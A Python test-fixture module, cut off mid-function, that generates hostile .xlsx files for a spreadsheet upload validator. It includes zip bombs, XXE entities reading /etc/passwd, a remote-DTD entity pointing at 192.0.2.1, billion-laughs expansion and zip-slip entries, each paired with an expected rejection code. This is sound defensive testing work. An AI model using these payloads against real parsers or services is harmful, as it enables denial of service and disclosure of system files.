"""Hostile submissions: files that crash, exhaust or fool spreadsheet readers, each with the issue code expected of it.

Every kind is built from a valid base workbook's bytes (a test's openpyxl workbook,
or the filled template), so that the only thing wrong with it is the one thing the
kind is about. Building is deterministic and fast: the bombs are assembled from
repeated deflate blocks and their CRCs combined arithmetically, so nothing of
their inflated size is ever held in memory. Use `write` to fill a folder, or
`build` for one kind's bytes.
"""

from __future__ import annotations

import datetime as dt
import io
import os
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path
from unittest import mock
from xml.etree import ElementTree

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_EPOCH = (1980, 1, 1, 0, 0, 0)


@dataclass(frozen=True)
class Kind:
    """One kind of hostile file: a stable key, the file name to write, the issue code expected and the builder."""

    key: str
    filename: bytes  # bytes, so that a name in no UTF-8 form (Shift_JIS) can be written
    code: str | None  # the one code preflight reports; None for a workbook that must pass
    build: Callable[[bytes], bytes]

    @property
    def name(self) -> str:
        """The file name as Python's file APIs spell it (undecodable bytes surrogate-escaped)."""
        return os.fsdecode(self.filename)


KINDS: dict[str, Kind] = {}


def _kind(filename: str | bytes, code: str | None) -> Callable[[Callable[[bytes], bytes]], Callable[[bytes], bytes]]:
    def register(build: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
        key = build.__name__.replace("_", "-")
        raw = filename if isinstance(filename, bytes) else filename.encode()
        KINDS[key] = Kind(key, raw, code, build)
        return build

    return register


def build(key: str, base: bytes) -> bytes:
    """The bytes of one hostile kind, made from a valid base workbook."""
    return KINDS[key].build(base)


def write(folder: Path, base: bytes, keys: Iterable[str] | None = None) -> list[tuple[str, str | None]]:
    """Write hostile files into `folder` and return (file name, expected issue code) for each."""
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for key in KINDS if keys is None else keys:
        kind = KINDS[key]
        (folder / kind.name).write_bytes(kind.build(base))
        written.append((kind.name, kind.code))
    return written


def with_rows(base: bytes, rows: bytes, *, dimension: str = "A1") -> bytes:
    """The base with its first sheet's <sheetData> content replaced by the given <row> XML."""
    return _with_sheet_data(base, rows, dimension=dimension.encode())


def with_cells(base: bytes, *cells: str, dimension: str = "A1") -> bytes:
    """The base with its first sheet holding the number 1 in each given cell, and nothing else."""
    return _with_sheet_data(base, _cell_rows(*cells), dimension=dimension.encode())


def with_part(base: bytes, path: str, content: bytes | None) -> bytes:
    """The base with one part replaced, added, or (content None) removed."""
    parts = _parts(base)
    if content is None:
        parts.pop(path, None)
    else:
        parts[path] = content
    return _zip(parts)


# -- zip plumbing ------------------------------------------------------------


def _parts(base: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist() if not info.is_dir()}


def _zip(parts: dict[str, bytes], *, stored: Iterable[str] = ()) -> bytes:
    """A deterministic zip (fixed timestamps, fixed order) of the parts."""
    keep = set(stored)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in parts.items():
            info = zipfile.ZipInfo(name, date_time=_EPOCH)
            info.compress_type = zipfile.ZIP_STORED if name in keep else zipfile.ZIP_DEFLATED
            archive.writestr(info, content)
    return buffer.getvalue()


@dataclass(frozen=True)
class _Entry:
    """A zip entry as raw fields, so that any of them can lie."""

    name: bytes
    payload: bytes  # as stored: raw deflate for method 8
    crc: int
    size: int  # declared uncompressed size
    method: int = zipfile.ZIP_DEFLATED


def _entry(name: str, content: bytes) -> _Entry:
    return _Entry(name.encode(), _deflate(content), zlib.crc32(content), len(content))


def _raw_zip(entries: Iterable[_Entry], *, extra_central: Iterable[tuple[bytes, int]] = ()) -> bytes:
    """Write a zip by hand; `extra_central` adds directory entries (name, index of an entry whose data they share)."""
    out = bytearray()
    central = bytearray()
    written: list[tuple[_Entry, int]] = []
    for entry in entries:
        offset = len(out)
        out += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, 0x800, entry.method, 0, 0x21,
            entry.crc, len(entry.payload), entry.size, len(entry.name), 0,
        )  # fmt: skip
        out += entry.name + entry.payload
        written.append((entry, offset))
    directory = [(entry.name, entry, offset) for entry, offset in written]
    directory += [(name, written[index][0], written[index][1]) for name, index in extra_central]
    for name, entry, offset in directory:
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0x800, entry.method, 0, 0x21,
            entry.crc, len(entry.payload), entry.size, len(name), 0, 0, 0, 0, 0, offset,
        )  # fmt: skip
        central += name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(directory), len(directory), len(central), len(out), 0)
    return bytes(out + central + end)


def _deflate(content: bytes) -> bytes:
    compressor = zlib.compressobj(6, zlib.DEFLATED, -zlib.MAX_WBITS)
    return compressor.compress(content) + compressor.flush()


def _deflate_repeated(head: bytes, block: bytes, count: int, tail: bytes) -> tuple[bytes, int, int]:
    """Raw deflate, CRC and size of head + block * count + tail, without ever building that content.

    After a full flush the compressor forgets its history, so every later copy of the
    block compresses to the same bytes: compress it once, repeat the output.
    """
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    start = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
    once = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    again = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    if once != again:
        raise AssertionError("zlib did not reset at a full flush")
    end = compressor.compress(tail) + compressor.flush()
    payload = start + once + again * (count - 1) + end
    crc = _crc32_combine(zlib.crc32(head), _crc32_repeated(block, count), len(block) * count)
    crc = _crc32_combine(crc, zlib.crc32(tail), len(tail))
    return payload, crc, len(head) + len(block) * count + len(tail)


def _gf2_times(matrix: list[int], vector: int) -> int:
    total = 0
    index = 0
    while vector:
        if vector & 1:
            total ^= matrix[index]
        vector >>= 1
        index += 1
    return total


def _gf2_square(matrix: list[int]) -> list[int]:
    return [_gf2_times(matrix, row) for row in matrix]


def _crc32_combine(crc1: int, crc2: int, length2: int) -> int:
    """CRC-32 of A + B from the CRCs of A and B and B's length (zlib's crc32_combine)."""
    if length2 <= 0:
        return crc1
    odd = [0xEDB88320] + [1 << bit for bit in range(31)]  # one zero bit
    even = _gf2_square(odd)  # two zero bits
    odd = _gf2_square(even)  # four zero bits
    while True:
        even = _gf2_square(odd)
        if length2 & 1:
            crc1 = _gf2_times(even, crc1)
        length2 >>= 1
        if not length2:
            break
        odd = _gf2_square(even)
        if length2 & 1:
            crc1 = _gf2_times(odd, crc1)
        length2 >>= 1
        if not length2:
            break
    return crc1 ^ crc2


def _crc32_repeated(block: bytes, count: int) -> int:
    """CRC-32 of block * count by doubling."""
    result, result_length = 0, 0
    power, power_length = zlib.crc32(block), len(block)
    while count:
        if count & 1:
            result = _crc32_combine(result, power, power_length)
            result_length += power_length
        count >>= 1
        if count:
            power = _crc32_combine(power, power, power_length)
            power_length *= 2
    return result


# -- workbook plumbing (the base is trusted, so the standard parser is fine) ---


def _sheet_paths(parts: dict[str, bytes]) -> list[str]:
    """The worksheet parts of a workbook, in sheet order."""
    workbook = ElementTree.fromstring(parts["xl/workbook.xml"])
    rels = ElementTree.fromstring(parts["xl/_rels/workbook.xml.rels"])
    targets = {rel.get("Id"): rel.get("Target", "") for rel in rels}
    paths = []
    for sheet in workbook.iter(f"{{{MAIN_NS}}}sheet"):
        target = targets[sheet.get(f"{{{REL_NS}}}id")]
        paths.append(target.lstrip("/") if target.startswith("/") else f"xl/{target}")
    return paths


def _first_sheet(parts: dict[str, bytes]) -> str:
    return _sheet_paths(parts)[0]


def _insert_before(xml: bytes, closing: bytes, addition: bytes) -> bytes:
    index = xml.rindex(closing)
    return xml[:index] + addition + xml[index:]


def _add_relationship(
    parts: dict[str, bytes], rels: str, kind: str, target: str, *, external: bool = False, namespace: str = REL_NS
) -> str:
    existing = parts.get(rels, f'<Relationships xmlns="{PACKAGE_REL_NS}"></Relationships>'.encode())
    number = 1000 + existing.count(b"<Relationship ")
    rel_id = f"rIdHostile{number}"
    mode = ' TargetMode="External"' if external else ""
    relation = f'<Relationship Id="{rel_id}" Type="{namespace}/{kind}" Target="{target}"{mode}/>'
    parts[rels] = _insert_before(existing, b"</Relationships>", relation.encode())
    return rel_id


def _add_override(parts: dict[str, bytes], part: str, content_type: str) -> None:
    override = f'<Override PartName="/{part}" ContentType="{content_type}"/>'.encode()
    parts["[Content_Types].xml"] = _insert_before(parts["[Content_Types].xml"], b"</Types>", override)


def _sheet_xml(xml: bytes, rows: bytes, *, dimension: bytes = b"A1", root_attributes: bytes = b"") -> bytes:
    """Worksheet XML with its cells replaced by `rows` and its dimension set."""
    xml = re.sub(
        rb"<sheetData\s*/>|<sheetData>.*?</sheetData>",
        lambda _: b"<sheetData>" + rows + b"</sheetData>",
        xml,
        count=1,
        flags=re.S,
    )
    xml = re.sub(rb'<dimension ref="[^"]*"', lambda _: b'<dimension ref="' + dimension + b'"', xml, count=1)
    if root_attributes:
        xml = re.sub(rb"<worksheet\b", lambda _: b"<worksheet " + root_attributes, xml, count=1)
    return xml


def _with_sheet_data(base: bytes, rows: bytes, *, dimension: bytes = b"A1", root_attributes: bytes = b"") -> bytes:
    """The base with its first sheet's cells replaced by `rows` and its dimension set."""
    parts = _parts(base)
    path = _first_sheet(parts)
    parts[path] = _sheet_xml(parts[path], rows, dimension=dimension, root_attributes=root_attributes)
    return _zip(parts)


def _shared_strings_path(parts: dict[str, bytes]) -> str:
    """The workbook's sharedStrings part, created (with a relationship and content type) if the base has none."""
    rels = parts["xl/_rels/workbook.xml.rels"]
    match = re.search(
        rb'Type="[^"]*/sharedStrings"[^>]*Target="([^"]*)"|Target="([^"]*)"[^>]*Type="[^"]*/sharedStrings"', rels
    )
    if match:
        target = (match.group(1) or match.group(2)).decode()
        return target.lstrip("/") if target.startswith("/") else f"xl/{target}"
    path = "xl/sharedStrings.xml"
    parts[path] = f'<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1"><si><t>工程表</t></si></sst>'.encode()
    _add_relationship(parts, "xl/_rels/workbook.xml.rels", "sharedStrings", "sharedStrings.xml")
    _add_override(parts, path, "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml")
    return path


def _set_sst_counts(xml: bytes, count: str, unique: str) -> bytes:
    head_end = xml.index(b">", xml.index(b"<sst"))
    head = xml[:head_end]
    head = re.sub(rb'\s(?:count|uniqueCount)="[^"]*"', b"", head)
    head += f' count="{count}" uniqueCount="{unique}"'.encode()
    return head + xml[head_end:]


def _add_sheets(parts: dict[str, bytes], names: list[str]) -> None:
    """Add worksheets with the given names (each a tiny part of its own)."""
    sheets = b""
    next_id = 10_000
    for index, name in enumerate(names):
        path = f"xl/worksheets/hostile{index + 1}.xml"
        parts[path] = (
            f'<worksheet xmlns="{MAIN_NS}"><sheetData><row r="1"><c r="A1"><v>{index}</v></c></row></sheetData></worksheet>'.encode()
        )
        rel_id = _add_relationship(
            parts, "xl/_rels/workbook.xml.rels", "worksheet", f"worksheets/hostile{index + 1}.xml"
        )
        _add_override(parts, path, "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml")
        escaped = name.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
        sheets += f'<sheet name="{escaped}" sheetId="{next_id + index}" r:id="{rel_id}"/>'.encode()
    parts["xl/workbook.xml"] = _insert_before(parts["xl/workbook.xml"], b"</sheets>", sheets)


def _prepend_doctype(xml: bytes, doctype: bytes) -> bytes:
    """Put a DOCTYPE after the XML declaration (or at the start when there is none)."""
    match = re.match(rb"<\?xml[^>]*\?>", xml)
    at = match.end() if match else 0
    return xml[:at] + doctype + xml[at:]


def _cfb(streams: dict[str, bytes]) -> bytes:
    """A minimal valid OLE compound file (v3, 512-byte sectors) holding up to three streams of < 4 KB each.

    Small streams live in the mini stream: sector 0 is the FAT, 1 the directory,
    2 the mini FAT, and the rest the mini stream, chained in order.
    """
    free, end_of_chain, fat_sector, no_stream = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    # Siblings are kept as a right-leaning chain, which needs CFB's name order: length, then upper case.
    ordered = sorted(streams.items(), key=lambda item: (len(item[0]), item[0].upper()))
    mini = bytearray()
    mini_fat: list[int] = []
    starts = []
    for _, content in ordered:
        start = len(mini) // 64
        count = max(1, -(-len(content) // 64))
        starts.append(start)
        mini_fat += [start + index + 1 for index in range(count - 1)] + [end_of_chain]
        mini += content.ljust(count * 64, b"\x00")
    mini_sectors = -(-len(mini) // 512)
    fat = [fat_sector, end_of_chain, end_of_chain]
    fat += [3 + index + 1 for index in range(mini_sectors - 1)] + [end_of_chain]
    header = OLE_MAGIC + b"\x00" * 16
    header += struct.pack("<HHHHH6s9I", 0x3E, 3, 0xFFFE, 9, 6, b"", 0, 1, 1, 0, 4096, 2, 1, end_of_chain, 0)
    header += struct.pack("<109I", 0, *([free] * 108))

    def entry(name: str, kind: int, right: int, child: int, start: int, size: int) -> bytes:
        encoded = (name + "\x00").encode("utf-16-le") if name else b""
        return struct.pack(
            "<64sHBBIII16sIQQIII", encoded, len(encoded), kind, 1, no_stream, right, child,
            b"", 0, 0, 0, start, size, 0,
        )  # fmt: skip

    directory = entry("Root Entry", 5, no_stream, 1, 3, len(mini))
    for index, ((name, content), start) in enumerate(zip(ordered, starts, strict=True)):
        right = index + 2 if index + 1 < len(ordered) else no_stream
        directory += entry(name, 2, right, no_stream, start, len(content))
    while len(directory) < 512:
        directory += entry("", 0, no_stream, no_stream, 0, 0)
    sectors = [
        struct.pack(f"<{len(fat)}I", *fat).ljust(512, b"\xff"),
        directory,
        struct.pack(f"<{len(mini_fat)}I", *mini_fat).ljust(512, b"\xff"),
        bytes(mini).ljust(mini_sectors * 512, b"\x00"),
    ]
    return header + b"".join(sectors)


def _biff_record(kind: int, body: bytes) -> bytes:
    return struct.pack("<HH", kind, len(body)) + body


def _biff8_workbook() -> bytes:
    """A BIFF8 Workbook stream: one sheet "Sheet1" with the number 1 in A1."""
    globals_bof = _biff_record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0x06))
    codepage = _biff_record(0x0042, struct.pack("<H", 1200))
    sheet_name = b"Sheet1"
    eof = _biff_record(0x000A, b"")
    globals_length = len(globals_bof) + len(codepage) + 4 + 8 + len(sheet_name) + len(eof)
    boundsheet = _biff_record(0x0085, struct.pack("<IBBBB", globals_length, 0, 0, len(sheet_name), 0) + sheet_name)
    sheet = _biff_record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0010, 0x0DBB, 0x07CC, 0, 0x06))
    sheet += _biff_record(0x0200, struct.pack("<IIHHH", 0, 1, 0, 1, 0))
    sheet += _biff_record(0x0203, struct.pack("<HHHd", 0, 0, 15, 1.0))
    sheet += eof
    return globals_bof + codepage + boundsheet + eof + sheet


# -- the kinds ------------------------------------------------------------------


def _cell_rows(*cells: str) -> bytes:
    """<row>/<c> XML holding the number 1 in each given cell (rows ascending)."""
    by_row: dict[int, list[str]] = {}
    for cell in cells:
        by_row.setdefault(int(re.sub(r"[A-Z]", "", cell)), []).append(cell)
    return b"".join(
        f'<row r="{row}">'.encode() + b"".join(f'<c r="{cell}"><v>1</v></c>'.encode() for cell in row_cells) + b"</row>"
        for row, row_cells in sorted(by_row.items())
    )


@_kind("cells-a1-and-xfd1048576.xlsx", "grid-out-of-bounds")
def cells_a1_and_xfd1048576(base: bytes) -> bytes:
    """Two cells at opposite corners of the grid: calamine allocates all 17 billion cells."""
    return _with_sheet_data(base, _cell_rows("A1", "XFD1048576"), dimension=b"A1:XFD1048576")


@_kind("cell-a1048577.xlsx", "grid-out-of-bounds")
def cell_a1048577(base: bytes) -> bytes:
    """A cell one row below Excel's last row."""
    return _with_sheet_data(base, _cell_rows("A1", "A1048577"))


@_kind("cell-xfe1.xlsx", "grid-out-of-bounds")
def cell_xfe1(base: bytes) -> bytes:
    """A cell one column right of Excel's last column."""
    return _with_sheet_data(base, _cell_rows("A1", "XFE1"))


@_kind("cell-a4294967297.xlsx", "grid-out-of-bounds")
def cell_a4294967297(base: bytes) -> bytes:
    """A row number that wraps a 32-bit counter to 1."""
    return _with_sheet_data(base, _cell_rows("A1", "A4294967297"))


@_kind("row-1048577-without-cells.xlsx", "grid-out-of-bounds")
def row_1048577_without_cells(base: bytes) -> bytes:
    """An empty row element past Excel's last row."""
    return _with_sheet_data(base, _cell_rows("A1") + b'<row r="1048577"/>')


@_kind("dimension-beyond-grid.xlsx", "grid-out-of-bounds")
def dimension_beyond_grid(base: bytes) -> bytes:
    """Normal cells under a <dimension> that claims cells past the grid."""
    return _with_sheet_data(base, _cell_rows("A1", "B2"), dimension=b"A1:XFE1048577")


@_kind("sparse-1048576-rows.xlsx", "grid-out-of-bounds")
def sparse_1048576_rows(base: bytes) -> bytes:
    """Cells A1 and A1048576: inside the grid, but a used area of a million rows."""
    return _with_sheet_data(base, _cell_rows("A1", "A1048576"), dimension=b"A1:A1048576")


@_kind("wide-row-without-refs.xlsx", "grid-out-of-bounds")
def wide_row_without_refs(base: bytes) -> bytes:
    """20,000 cells without r in one row (allowed by the spec): column 20,000 is past XFD."""
    return _with_sheet_data(base, b"<row>" + b"<c><v>1</v></c>" * 20_000 + b"</row>")


@_kind("prefixed-cell-tags.xlsx", "grid-out-of-bounds")
def prefixed_cell_tags(base: bytes) -> bytes:
    """Cells written with a namespace prefix (<x:c>), which a scan for "<c " would miss."""
    rows = b'<x:row r="1"><x:c r="A1"><x:v>1</x:v></x:c></x:row><x:row r="1048576"><x:c r="XFD1048576"><x:v>1</x:v></x:c></x:row>'
    return _with_sheet_data(base, rows, root_attributes=f'xmlns:x="{MAIN_NS}"'.encode())


@_kind("shared-strings-count.xlsx", "bad-shared-strings")
def shared_strings_count(base: bytes) -> bytes:
    """sharedStrings count and uniqueCount of 4,294,967,295: calamine reserves that many strings."""
    parts = _parts(base)
    path = _shared_strings_path(parts)
    parts[path] = _set_sst_counts(parts[path], "4294967295", "4294967295")
    return _zip(parts)


@_kind("shared-strings-unique-count.xlsx", "bad-shared-strings")
def shared_strings_unique_count(base: bytes) -> bytes:
    """A uniqueCount under the limit but far more than the tiny part could hold."""
    parts = _parts(base)
    path = _shared_strings_path(parts)
    parts[path] = _set_sst_counts(parts[path], "900000", "900000")
    return _zip(parts)


def _with_part(base: bytes, path: str, entry: _Entry) -> bytes:
    """The base re-zipped by hand with one part replaced (or added) by a raw entry."""
    parts = _parts(base)
    parts.setdefault(path, b"")
    return _raw_zip(entry if name == path else _entry(name, content) for name, content in parts.items())


@_kind("dense-cells-bomb.xlsx", "zip-bomb")
def dense_cells_bomb(base: bytes) -> bytes:
    """4 million cells (256 full-width rows) in ~60 KB compressed."""
    parts = _parts(base)
    path = _first_sheet(parts)
    head = f'<worksheet xmlns="{MAIN_NS}"><sheetData>'.encode()
    block = b"<row>" + b"<c><v>1</v></c>" * 16_384 + b"</row>"
    payload, crc, size = _deflate_repeated(head, block, 256, b"</sheetData></worksheet>")
    return _with_part(base, path, _Entry(path.encode(), payload, crc, size))


@_kind("declared-4k-inflates-256m.xlsx", "zip-bomb")
def declared_4k_inflates_256m(base: bytes) -> bytes:
    """sharedStrings declared as 4 KB in both zip headers; it inflates to 256 MB."""
    parts = _parts(base)
    path = _shared_strings_path(parts)
    head = f'<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1"><si><t>'.encode()
    payload, crc, _ = _deflate_repeated(head, b"x" * (1 << 20), 256, b"</t></si></sst>")
    parts[path] = b""
    return _raw_zip(
        _Entry(path.encode(), payload, crc, 4096) if name == path else _entry(name, content)
        for name, content in parts.items()
    )


@_kind("whitespace-bomb.xlsx", "zip-bomb")
def whitespace_bomb(base: bytes) -> bytes:
    """A 1.2 MB file whose first sheet holds 1.1 GB of whitespace between its elements."""
    parts = _parts(base)
    path = _first_sheet(parts)
    xml = parts[path]
    split = xml.index(b"<sheetData")
    payload, crc, size = _deflate_repeated(xml[:split], b" " * (1 << 20), 1_150, xml[split:])
    return _with_part(base, path, _Entry(path.encode(), payload, crc, size))


_XXE = b'<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


@_kind("xxe-shared-strings.xlsx", "xml-entities")
def xxe_shared_strings(base: bytes) -> bytes:
    """An external entity reading /etc/passwd into a shared string."""
    parts = _parts(base)
    path = _shared_strings_path(parts)
    parts[path] = _prepend_doctype(parts[path], _XXE).replace(b"<t>", b"<t>&xxe;", 1)
    return _zip(parts)


@_kind("xxe-workbook.xlsx", "xml-entities")
def xxe_workbook(base: bytes) -> bytes:
    """An external entity in xl/workbook.xml, used in a sheet name."""
    parts = _parts(base)
    doctype = b'<!DOCTYPE workbook [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    xml = _prepend_doctype(parts["xl/workbook.xml"], doctype)
    parts["xl/workbook.xml"] = re.sub(rb'(<sheet\b[^>]*?name=")', rb"\1&xxe;", xml, count=1)
    return _zip(parts)


@_kind("xxe-rels.xlsx", "xml-entities")
def xxe_rels(base: bytes) -> bytes:
    """A lowercase doctype with a parameter entity in the package relationships."""
    parts = _parts(base)
    doctype = b'<!doctype Relationships [<!ENTITY % remote SYSTEM "http://192.0.2.1/x.dtd"> %remote;]>'
    parts["_rels/.rels"] = _prepend_doctype(parts["_rels/.rels"], doctype)
    return _zip(parts)


@_kind("billion-laughs.xlsx", "xml-entities")
def billion_laughs(base: bytes) -> bytes:
    """Nested entities expanding to 10^9 "lol"s in the first sheet."""
    parts = _parts(base)
    path = _first_sheet(parts)
    entities = b'<!ENTITY lol0 "lol">' + b"".join(
        f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">'.encode() for level in range(1, 10)
    )
    xml = _prepend_doctype(parts[path], b"<!DOCTYPE worksheet [" + entities + b"]>")
    parts[path] = _sheet_xml(xml, b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>')
    return _zip(parts)


@_kind("duplicate-sheet-names.xlsx", "duplicate-sheet")
def duplicate_sheet_names(base: bytes) -> bytes:
    """A second sheet named exactly like the first: calamine silently drops one."""
    parts = _parts(base)
    first = re.search(rb'<sheet\b[^>]*?name="([^"]*)"', parts["xl/workbook.xml"])
    assert first is not None
    _add_sheets(parts, [first.group(1).decode()])
    return _zip(parts)


@_kind("duplicate-sheet-names-case.xlsx", "duplicate-sheet")
def duplicate_sheet_names_case(base: bytes) -> bytes:
    """Two sheets whose names differ only in letter case, which Excel treats as the same name."""
    parts = _parts(base)
    _add_sheets(parts, ["Data", "DATA"])
    return _zip(parts)


@_kind("thousand-sheets.xlsx", "too-many-sheets")
def thousand_sheets(base: bytes) -> bytes:
    """1,000 extra sheets."""
    parts = _parts(base)
    _add_sheets(parts, [f"S{index}" for index in range(1, 1001)])
    return _zip(parts)


@_kind("duplicate-zip-entries.xlsx", "corrupt-zip")
def duplicate_zip_entries(base: bytes) -> bytes:
    """xl/workbook.xml twice, the second naming other sheets: readers disagree on which wins."""
    parts = _parts(base)
    entries = [_entry(name, content) for name, content in parts.items()]
    other = re.sub(rb'name="[^"]*"', b'name="hidden"', parts["xl/workbook.xml"], count=1)
    entries.append(_entry("xl/workbook.xml", other))
    return _raw_zip(entries)


@_kind("dotdot-entry.xlsx", "corrupt-zip")
def dotdot_entry(base: bytes) -> bytes:
    """An entry that climbs out of the extraction folder (zip slip)."""
    parts = _parts(base)
    parts["../../evil.xml"] = b"<evil/>"
    return _zip(parts)


@_kind("absolute-entry.xlsx", "corrupt-zip")
def absolute_entry(base: bytes) -> bytes:
    """An entry with an absolute path."""
    parts = _parts(base)
    parts["/tmp/evil.xml"] = b"<evil/>"
    return _raw_zip(_entry(name, content) for name, content in parts.items())


@_kind("backslash-entry.xlsx", "corrupt-zip")
def backslash_entry(base: bytes) -> bytes:
    """An entry named with Windows separators, which some readers treat as folders."""
    parts = _parts(base)
    parts["xl\\worksheets\\evil.xml"] = b"<evil/>"
    return _raw_zip(_entry(name, content) for name, content in parts.items())


@_kind("overlapping-entries.xlsx", "corrupt-zip")
def overlapping_entries(base: bytes) -> bytes:
    """Two directory entries sharing one compressed body (the overlap trick of non-recursive zip bombs)."""
    parts = _parts(base)
    names = list(parts)
    path = _first_sheet(parts)
    return _raw_zip(
        (_entry(name, content) for name, content in parts.items()),
        extra_central=[(b"xl/worksheets/copy.xml", names.index(path))],
    )


@_kind("truncated.xlsx", "corrupt-zip")
def truncated(base: bytes) -> bytes:
    """The first half of the workbook, as left by an interrupted copy."""
    return base[: len(base) // 2]


@_kind("bad-crc.xlsx", "corrupt-zip")
def bad_crc(base: bytes) -> bytes:
    """One part's CRC does not match its content."""
    parts = _parts(base)
    path = _first_sheet(parts)
    entries = [_entry(name, content) for name, content in parts.items()]
    entries = [_Entry(e.name, e.payload, e.crc ^ 1, e.size) if e.name == path.encode() else e for e in entries]
    return _raw_zip(entries)


@_kind("too-many-entries.xlsx", "too-large")
def too_many_entries(base: bytes) -> bytes:
    """3,000 tiny parts."""
    parts = _parts(base)
    for index in range(3_000):
        parts[f"customXml/pad{index}.bin"] = b""
    return _zip(parts, stored=[f"customXml/pad{index}.bin" for index in range(3_000)])


@_kind("random-bytes.xlsx", "not-a-workbook")
def random_bytes(base: bytes) -> bytes:
    """4 KB of noise."""
    return b"\x00\x01" + random.Random(20240401).randbytes(4094)  # the leading NUL keeps it from reading as text


@_kind("empty.xlsx", "empty-file")
def empty(base: bytes) -> bytes:
    """Zero bytes, as left by a failed save."""
    return b""


@_kind("csv-named-xlsx.xlsx", "unsupported-format")
def csv_named_xlsx(base: bytes) -> bytes:
    """A UTF-8 CSV (with BOM, as Excel saves it) renamed to .xlsx."""
    return "\ufeff所属コード,部局名,所属名\r\nK001,総務部,行政課\r\n".encode()


@_kind("csv-shift-jis.xlsx", "unsupported-format")
def csv_shift_jis(base: bytes) -> bytes:
    """A Shift_JIS CSV renamed to .xlsx."""
    return "所属コード,部局名,所属名\r\nK001,総務部,行政課\r\n".encode("cp932")


@_kind("xml-spreadsheet-2003.xlsx", "unsupported-format")
def xml_spreadsheet_2003(base: bytes) -> bytes:
    """Excel 2003 XML Spreadsheet renamed to .xlsx."""
    return (
        '<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n'
        '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
        'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">'
        '<Worksheet ss:Name="政策1"><Table><Row><Cell><Data ss:Type="String">工程表</Data></Cell></Row></Table></Worksheet>'
        "</Workbook>\n"
    ).encode()


@_kind("ods-named-xlsx.xlsx", "unsupported-format")
def ods_named_xlsx(base: bytes) -> bytes:
    """A minimal valid OpenDocument spreadsheet, renamed to .xlsx."""
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    table = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
    text = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
    manifest_ns = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
    mimetype = "application/vnd.oasis.opendocument.spreadsheet"
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="{office}" '
        f'xmlns:table="{table}" xmlns:text="{text}" office:version="1.2"><office:body><office:spreadsheet>'
        '<table:table table:name="政策1"><table:table-row><table:table-cell office:value-type="string">'
        "<text:p>工程表</text:p></table:table-cell></table:table-row></table:table>"
        "</office:spreadsheet></office:body></office:document-content>"
    )
    manifest = (
        f'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="{manifest_ns}" manifest:version="1.2">'
        f'<manifest:file-entry manifest:full-path="/" manifest:version="1.2" manifest:media-type="{mimetype}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    parts = {"mimetype": mimetype.encode(), "content.xml": content.encode(), "META-INF/manifest.xml": manifest.encode()}
    return _zip(parts, stored=["mimetype"])


@_kind("xlsb-named-xlsx.xlsx", "unsupported-format")
def xlsb_named_xlsx(base: bytes) -> bytes:
    """An Excel binary workbook's package (xl/workbook.bin) renamed to .xlsx."""
    types = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    return _zip({"[Content_Types].xml": types, "xl/workbook.bin": b"\x83\x01\x00"})


@_kind("zip-without-workbook.xlsx", "not-a-workbook")
def zip_without_workbook(base: bytes) -> bytes:
    """A zip of something else (a Word document's parts) renamed to .xlsx."""
    return _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>"})


@_kind("legacy.xls", "legacy-format")
def legacy_xls(base: bytes) -> bytes:
    """A small valid Excel 97-2003 workbook (BIFF8 in an OLE compound file)."""
    return _cfb({"Workbook": _biff8_workbook()})


@_kind("legacy-named-xlsx.xlsx", "legacy-format")
def legacy_named_xlsx(base: bytes) -> bytes:
    """The same .xls renamed to .xlsx: the format comes from the bytes, not the name."""
    return legacy_xls(base)


@_kind("encrypted.xlsx", "encrypted-workbook")
def encrypted(base: bytes) -> bytes:
    """The base workbook protected with the password "pass" by msoffcrypto-tool (Agile encryption)."""
    from msoffcrypto.format.ooxml import OOXMLFile  # type: ignore[import-untyped]
    from msoffcrypto.method import ecma376_agile  # type: ignore[import-untyped]
    from msoffcrypto.method.container import ecma376_encrypted  # type: ignore[import-untyped]

    class _FixedClock(dt.datetime):
        @classmethod
